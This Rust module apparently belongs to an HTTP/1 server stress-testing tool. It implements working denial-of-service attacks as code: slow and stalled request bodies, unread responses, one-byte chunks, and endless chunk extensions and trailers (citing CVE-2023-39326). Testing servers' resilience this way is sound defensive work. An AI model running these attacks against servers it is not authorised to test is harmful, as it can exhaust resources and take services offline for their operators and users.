//! Attacks by the body of an HTTP/1 request, and by not reading the body of an answer.

use std::io;
use std::time::Duration;

use futures_util::future::LocalBoxFuture;

use super::{Attack, End, Line, Target};

/// The head of a request with a chunked body.
fn chunked(target: &Target) -> String {
    format!(
        "POST /count HTTP/1.1\r\nHost: {}\r\nTransfer-Encoding: chunked\r\n\r\n",
        target.host
    )
}

/// The head of a request with a body of this length.
fn sized(target: &Target, length: u64, more: &str) -> String {
    format!(
        "POST /count HTTP/1.1\r\nHost: {}\r\nContent-Length: {length}\r\n{more}\r\n",
        target.host
    )
}

/// Slow bodies: a body that comes a byte at a time.
#[derive(Debug)]
pub struct SlowBody {
    /// Between two bytes.
    pub pause: Duration,
}

impl Attack for SlowBody {
    fn name(&self) -> &'static str {
        "slow bodies"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send(sized(target, 1 << 30, "").as_bytes()).await?;
            loop {
                line.drip(b"b", self.pause).await?;
            }
        })
    }
}

/// Stalled bodies: a body that begins and then does not go on.
#[derive(Debug)]
pub struct StalledBody;

impl Attack for StalledBody {
    fn name(&self) -> &'static str {
        "stalled bodies"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send(sized(target, 1 << 30, "").as_bytes()).await?;
            line.send(b"the beginning").await?;
            line.seen.count(1);
            line.read_until_end().await
        })
    }
}

/// Expectations without a body: `Expect: 100-continue`, and whatever the answer is, nothing follows.
#[derive(Debug)]
pub struct ExpectNothing;

impl Attack for ExpectNothing {
    fn name(&self) -> &'static str {
        "expectations"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let head = sized(target, 1 << 20, "Expect: 100-continue\r\n");
            line.send(head.as_bytes()).await?;
            line.seen.count(1);
            line.read_until_end().await
        })
    }
}

/// Stalled readers: each asks for something big and never reads.
#[derive(Debug)]
pub struct StalledReader {
    /// What is asked for.
    pub path: &'static str,
}

impl Attack for StalledReader {
    fn name(&self) -> &'static str {
        "stalled readers"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let head = format!(
                "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
                self.path, target.host
            );
            line.send(head.as_bytes()).await?;
            line.seen.count(1);
            line.hold().await
        })
    }
}

/// Tiny chunks: a body in chunks of one byte, so that each byte costs a chunk's work.
#[derive(Debug)]
pub struct TinyChunks {
    /// Chunks a connection sends.
    pub chunks: u32,
}

impl Attack for TinyChunks {
    fn name(&self) -> &'static str {
        "tiny chunks"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            const AT_ONCE: u32 = 500;
            line.send(chunked(target).as_bytes()).await?;
            let chunks = "1\r\nx\r\n".repeat(AT_ONCE as usize);
            for _ in 0..self.chunks / AT_ONCE {
                line.send_reading(chunks.as_bytes()).await?;
                line.seen.count(AT_ONCE.into());
            }
            line.send(b"0\r\n\r\n").await?;
            line.read_answers(1).await?;
            Ok(End::Spent)
        })
    }
}

/// Endless chunk extensions: the line of a chunk's size that never ends (CVE-2023-39326 and its kin).
#[derive(Debug)]
pub struct EndlessExtension;

impl Attack for EndlessExtension {
    fn name(&self) -> &'static str {
        "endless chunk extension"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send_reading(chunked(target).as_bytes()).await?;
            line.send_reading(b"5;").await?;
            line.seen.count(1);
            repeat(&mut line, "extension=").await
        })
    }
}

/// Extensions on every chunk: each short, but a kilobyte of them for each byte of body.
#[derive(Debug)]
pub struct ManyExtensions;

impl Attack for ManyExtensions {
    fn name(&self) -> &'static str {
        "extensions on every chunk"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send_reading(chunked(target).as_bytes()).await?;
            line.seen.count(1);
            let chunk = format!("1;{}\r\nx\r\n", "e".repeat(1000));
            repeat(&mut line, &chunk).await
        })
    }
}

/// Endless trailers: after the last chunk, fields without end.
#[derive(Debug)]
pub struct EndlessTrailers;

impl Attack for EndlessTrailers {
    fn name(&self) -> &'static str {
        "endless trailers"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send_reading(chunked(target).as_bytes()).await?;
            line.send_reading(b"1\r\nx\r\n0\r\n").await?;
            line.seen.count(1);
            repeat(&mut line, "X-Trailer: 1\r\n").await
        })
    }
}

/// The same text again and again until the other side has had enough. At most 16 MiB.
async fn repeat(line: &mut Line<'_>, text: &str) -> io::Result<End> {
    let piece = text.repeat((16 * 1024_usize).div_ceil(text.len()));
    for _ in 0..1024 {
        line.send_reading(piece.as_bytes()).await?;
    }
    Ok(End::Spent)
}
